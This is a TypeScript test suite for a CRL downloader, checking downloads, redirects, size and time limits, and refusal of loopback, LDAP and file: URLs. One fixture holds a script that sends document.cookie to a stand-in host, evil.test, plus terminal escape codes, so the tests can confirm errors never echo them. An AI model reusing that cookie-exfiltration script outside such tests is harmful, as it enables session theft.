/**
 * @module sources/revocation/crl-fetch.test
 * CRL downloads against a local HTTP server: DER, PEM, 304s, statuses, HTML, endless, huge and silent
 * bodies, redirects — each ends in a clear result within the deadline, with memory bounded; what came instead
 * of a CRL is described, never quoted; the address policy refuses loopback before any request.
 */
import { after, before, describe, it } from "node:test";
import assert from "node:assert/strict";
import { createServer } from "node:net";
import { publicAddressesOnly } from "../../util/address-policy.js";
import { HttpClient } from "../../util/http-get.js";
import { fetchCrl, type CrlFetchOptions, type CrlFetchResult } from "./crl-fetch.js";
import { startHttpFixtureServer, type HttpFixtureServer } from "../../../test/helpers/http-fixture-server.js";
import { createRootCa } from "../../../test/helpers/pki.js";
import { crlPem, issueCrl } from "../../../test/helpers/crl-ca.js";

const MB = 1024 * 1024;
// The fixture server is on loopback: this client has no address policy, as with allowPrivateAddresses: true.
const client = new HttpClient({ keepAlive: false });
const opts: CrlFetchOptions = { client, timeoutMs: 5000, maxBytes: 10 * MB };
const HOSTILE_HTML =
  "<!DOCTYPE html><html><script>document.location='//evil.test/'+document.cookie</script>" +
  "\x1b[2J\x1b]0;pwned\x07<body>SECRET-INTERNAL-PAGE</body></html>";
const ETAG = '"crl-v1"';
const LAST_MODIFIED = "Tue, 01 Apr 2025 10:00:00 GMT";

let server: HttpFixtureServer;
let der: Uint8Array;

before(async () => {
  der = await issueCrl(await createRootCa(), { entries: [{ serialHex: "01", reason: "keyCompromise" }] });
  server = await startHttpFixtureServer({
    "/ca.crl": { kind: "static", body: der, etag: ETAG, lastModified: LAST_MODIFIED },
    "/ca-chunked.crl": { kind: "static", body: der, chunked: true },
    "/ca.pem": { kind: "static", body: `some text before\n${crlPem(der)}`, contentType: "text/plain" },
    "/missing.crl": { kind: "status", status: 404 },
    "/broken.crl": { kind: "status", status: 500 },
    "/portal.crl": { kind: "html" },
    "/binary.crl": { kind: "static", body: new Uint8Array([0xde, 0xad, 0xbe, 0xef]) },
    "/truncated.crl": { kind: "static", body: der.subarray(0, der.length - 10) },
    "/forever.crl": { kind: "stream" },
    "/drip.crl": { kind: "stream", chunkBytes: 1, intervalMs: 20 },
    "/huge-declared.crl": { kind: "stream", bytes: 200 * MB, declareLength: true },
    "/huge-chunked.crl": { kind: "stream", bytes: 200 * MB },
    "/huge-der.crl": {
      kind: "stream",
      bytes: 200 * MB,
      prefix: new Uint8Array([0x30, 0x84, 0x0c, 0x80, 0, 0]),
    },
    "/silent.crl": { kind: "silent" },
    "/hop1": { kind: "redirect", location: "/hop2", status: 301 },
    "/hop2": { kind: "redirect", location: "/hop3", status: 307 },
    "/hop3": { kind: "redirect", location: "/ca.crl" },
    "/loop": { kind: "redirect", location: "/loop" },
    "/to-ldap": { kind: "redirect", location: "ldap://ldap.test/cn=CA?certificateRevocationList" },
    "/hostile.crl": { kind: "static", body: HOSTILE_HTML, contentType: 'text/html\xff; x="<script>"' },
  });
});

after(async () => {
  client.destroy();
  await server.close();
});

function expectError(r: CrlFetchResult, reason: string): string {
  assert.equal(r.kind, "error", JSON.stringify(r));
  assert.ok(r.kind === "error");
  assert.equal(r.reason, reason, r.error);
  return r.error;
}

async function timed(url: string, o: CrlFetchOptions = opts): Promise<{ r: CrlFetchResult; ms: number }> {
  const start = performance.now();
  const r = await fetchCrl(url, o);
  return { r, ms: performance.now() - start };
}

void describe("fetchCrl: answers", () => {
  void it("downloads a DER CRL with its validators", async () => {
    const fetchedAt = new Date("2025-04-02T00:00:00Z");
    const r = await fetchCrl(server.url("/ca.crl"), { ...opts, now: () => fetchedAt });
    assert.ok(r.kind === "ok", JSON.stringify(r));
    assert.deepEqual(Buffer.from(r.der), Buffer.from(der));
    assert.deepEqual([r.etag, r.lastModified, r.fetchedAt], [ETAG, LAST_MODIFIED, fetchedAt]);
    assert.equal(server.lastHeaders("/ca.crl")?.["if-none-match"], undefined);
  });

  void it("downloads a chunked DER CRL (sized from its DER header)", async () => {
    const r = await fetchCrl(server.url("/ca-chunked.crl"), opts);
    assert.ok(r.kind === "ok", JSON.stringify(r));
    assert.deepEqual(Buffer.from(r.der), Buffer.from(der));
  });

  void it("decodes a PEM CRL", async () => {
    const r = await fetchCrl(server.url("/ca.pem"), opts);
    assert.ok(r.kind === "ok", JSON.stringify(r));
    assert.deepEqual(Buffer.from(r.der), Buffer.from(der));
  });

  void it("sends If-None-Match / If-Modified-Since and reports 304 as not-modified", async () => {
    const before = server.hits("/ca.crl");
    assert.deepEqual(await fetchCrl(server.url("/ca.crl"), { ...opts, etag: ETAG }), {
      kind: "not-modified",
    });
    assert.equal(server.lastHeaders("/ca.crl")?.["if-none-match"], ETAG);
    const byDate = await fetchCrl(server.url("/ca.crl"), { ...opts, lastModified: LAST_MODIFIED });
    assert.deepEqual(byDate, { kind: "not-modified" });
    assert.equal(server.lastHeaders("/ca.crl")?.["if-modified-since"], LAST_MODIFIED);
    assert.equal(server.hits("/ca.crl"), before + 2);
    const changed = await fetchCrl(server.url("/ca.crl"), { ...opts, etag: '"crl-v0"' });
    assert.equal(changed.kind, "ok");
  });

  void it("follows up to 3 redirects, and no more", async () => {
    const r = await fetchCrl(server.url("/hop1"), opts);
    assert.ok(r.kind === "ok", JSON.stringify(r));
    assert.equal(r.url, server.url("/ca.crl"));
    assert.match(
      expectError(await fetchCrl(server.url("/loop"), opts), "http-status"),
      /more than 3 redirects/,
    );
    assert.equal(server.hits("/loop"), 4);
    const ldap = expectError(await fetchCrl(server.url("/to-ldap"), opts), "http-status");
    assert.match(ldap, /redirects to a ldap: URL; only http and https are followed/);
    assert.doesNotMatch(ldap, /ldap\.test|certificateRevocationList/, "the Location is not quoted");
  });
});

void describe("fetchCrl: failures", () => {
  void it("reports HTTP statuses", async () => {
    assert.match(expectError(await fetchCrl(server.url("/missing.crl"), opts), "http-status"), /HTTP 404/);
    assert.match(expectError(await fetchCrl(server.url("/broken.crl"), opts), "http-status"), /HTTP 500/);
  });

  void it("describes what came instead of a CRL", async () => {
    const html = expectError(await fetchCrl(server.url("/portal.crl"), opts), "not-a-crl");
    assert.match(html, /content-type text\/html; charset=utf-8, \d+ bytes, looks like HTML/);
    assert.doesNotMatch(html, /DOCTYPE|Please log in/);
    const binary = expectError(await fetchCrl(server.url("/binary.crl"), opts), "not-a-crl");
    assert.match(binary, /content-type application\/pkix-crl, 4 bytes, binary/);
    assert.doesNotMatch(binary, /dead|beef/i);
    const truncated = expectError(await fetchCrl(server.url("/truncated.crl"), opts), "not-a-crl");
    assert.match(truncated, /truncated DER SEQUENCE/);
  });

  void it("never echoes a hostile body or content type (script, terminal escapes) into the error", async () => {
    const error = expectError(await fetchCrl(server.url("/hostile.crl"), opts), "not-a-crl");
    assert.equal(
      error,
      `${server.url("/hostile.crl")} did not send a CRL: neither DER nor PEM ` +
        `(content-type text/html?; x=??script??, ${HOSTILE_HTML.length} bytes, looks like HTML)`,
    );
    assert.ok(![...error].some((c) => c < " " || c === "\x7f"), "no control characters");
    assert.doesNotMatch(error, /<script|SECRET|pwned|evil/);
  });

  void it("refuses a loopback distribution point under the public-only policy, before any request", async () => {
    const guarded = new HttpClient({ keepAlive: false, addressPolicy: publicAddressesOnly });
    try {
      const before = server.hits("/ca.crl");
      const error = expectError(
        await fetchCrl(server.url("/ca.crl"), { ...opts, client: guarded }),
        "forbidden-address",
      );
      assert.match(error, /127\.0\.0\.1 is a loopback address/);
      assert.equal(server.hits("/ca.crl"), before);
    } finally {
      guarded.destroy();
    }
  });

  void it("refuses URLs that are not http(s)", async () => {
    const ldap = "ldap://ldap.test/CN=CA,O=Test?certificateRevocationList;binary";
    assert.match(expectError(await fetchCrl(ldap, opts), "unsupported-url"), /LDAP CRL distribution points/);
    assert.match(expectError(await fetchCrl("file:///etc/passwd", opts), "unsupported-url"), /file:/);
    assert.match(expectError(await fetchCrl("not a url", opts), "unsupported-url"), /not a valid URL/);
  });

  void it("reports a refused connection as a network error", async () => {
    const probe = createServer();
    await new Promise<void>((resolve) => probe.listen(0, "127.0.0.1", resolve));
    const { port } = probe.address() as { port: number };
    await new Promise<void>((resolve) => probe.close(() => resolve()));
    expectError(await fetchCrl(`http://127.0.0.1:${port}/ca.crl`, opts), "network");
  });

  void it("reports a body cut short of its Content-Length as a network error", async () => {
    const raw = createServer((socket) => {
      socket.on("data", () => socket.end("HTTP/1.1 200 OK\r\nContent-Length: 1000\r\n\r\n0123456789"));
    });
    await new Promise<void>((resolve) => raw.listen(0, "127.0.0.1", resolve));
    const { port } = raw.address() as { port: number };
    try {
      const error = expectError(await fetchCrl(`http://127.0.0.1:${port}/cut.crl`, opts), "network");
      assert.match(error, /before the end of the body|aborted/);
    } finally {
      await new Promise<void>((resolve) => raw.close(() => resolve()));
    }
  });

  void it("stops an endless body at the byte cap", async () => {
    const { r, ms } = await timed(server.url("/forever.crl"), { ...opts, timeoutMs: 5000, maxBytes: 2 * MB });
    assert.match(expectError(r, "too-large"), /exceeds the 2097152-byte cap/);
    assert.ok(ms < 2000, `${ms} ms`);
  });

  void it("stops a slow endless body at the total deadline, not an idle timeout", async () => {
    const { r, ms } = await timed(server.url("/drip.crl"), { ...opts, timeoutMs: 400, maxBytes: 10 * MB });
    assert.match(expectError(r, "timeout"), /within 400 ms/);
    assert.ok(ms >= 390 && ms < 1000, `${ms} ms`);
  });

  void it("times out a server that never answers", async () => {
    const { r, ms } = await timed(server.url("/silent.crl"), { ...opts, timeoutMs: 300, maxBytes: MB });
    expectError(r, "timeout");
    assert.ok(ms >= 290 && ms < 1000, `${ms} ms`);
  });

  void it("refuses 200 MB bodies (declared, chunked, DER header) with memory bounded", async () => {
    const rssBefore = process.memoryUsage().rss;
    const declared = await timed(server.url("/huge-declared.crl"), {
      ...opts,
      timeoutMs: 10_000,
      maxBytes: 20 * MB,
    });
    assert.match(
      expectError(declared.r, "too-large"),
      /declares 209715200 bytes, over the 20971520-byte cap/,
    );
    assert.ok(declared.ms < 500, `${declared.ms} ms`);
    const chunked = await timed(server.url("/huge-chunked.crl"), {
      ...opts,
      timeoutMs: 10_000,
      maxBytes: 20 * MB,
    });
    assert.match(expectError(chunked.r, "too-large"), /exceeds the 20971520-byte cap/);
    const derHeader = await timed(server.url("/huge-der.crl"), {
      ...opts,
      timeoutMs: 10_000,
      maxBytes: 20 * MB,
    });
    assert.match(expectError(derHeader.r, "too-large"), /first bytes of .* announce 209715206 bytes/);
    assert.ok(derHeader.ms < 500, `${derHeader.ms} ms`);
    const growth = (process.memoryUsage().rss - rssBefore) / MB;
    assert.ok(growth < 100, `RSS grew by ${growth.toFixed(0)} MB`);
  });
});
